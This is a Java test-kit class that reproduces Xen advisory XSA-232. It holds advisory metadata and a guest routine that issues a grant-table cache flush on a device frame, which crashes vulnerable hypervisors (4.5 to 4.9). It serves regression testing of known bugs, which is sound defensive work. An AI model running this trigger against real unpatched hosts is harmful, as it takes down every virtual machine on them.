package io.github.paravane.testkit.advisory.grant;

import static io.github.paravane.testkit.asm.Gpr.RAX;

import io.github.paravane.hypervisor.profiles.AbiProfiles;
import io.github.paravane.testkit.advisory.Advisory;
import io.github.paravane.testkit.advisory.BugGuest;
import io.github.paravane.testkit.advisory.GuestTrial;
import io.github.paravane.testkit.advisory.KnownBug;
import io.github.paravane.testkit.advisory.Layer;
import io.github.paravane.testkit.asm.Label;
import io.github.paravane.testkit.runtime.Hypercalls;

/** XSA-232: a cache flush of a frame whose owner has no grant table. */
final class FlushOfDevice {

    private static final int CACHE_FLUSH = 12;
    private static final int CLEAN = 1;

    /** The frame buffer of a VGA card. */
    private static final long DEVICE = 0xA_0000;

    private FlushOfDevice() {}

    static KnownBug bug() {
        Advisory advisory = Advisory.of("xsa-232", Layer.GRANT, "A cache flush of a device kills the hypervisor")
                .names("XSA-232", "CVE-2017-14318", "c3d830b244")
                .mechanism(
                        "GNTTABOP_cache_flush of a frame of another domain looks for a mapping in that domain's grant "
                                + "table. The frames of devices belong to a domain of the hypervisor that has none.")
                .construction("GNTTABOP_cache_flush of 8 bytes below 1 MiB.")
                .telling("The host dies, or the call is EPERM.")
                .affected("4.5 to 4.9")
                .repaired("4.10 (c3d830b244)")
                .provenance("XSA-232; Xen commit c3d830b244; XTF test xsa-232")
                .build();
        return new KnownBug(
                advisory, AbiProfiles.XEN_4_9, AbiProfiles.XEN_4_10, GuestTrial.of(BugGuest.elf(FlushOfDevice::guest)));
    }

    private static void guest(BugGuest guest) {
        Label operation = guest.label();
        guest.runtime()
                .data(() -> guest.asm()
                        .align(8)
                        .bind(operation)
                        .u64(DEVICE)
                        .u32(8 << 16)
                        .u32(CLEAN));
        guest.runtime().call(Hypercalls.GRANT_TABLE_OP, CACHE_FLUSH, operation, 1);
        guest.evidence("result", RAX);
        guest.judge(RAX, 0, "the flush was done", -1, "the hypervisor is alive");
    }
}
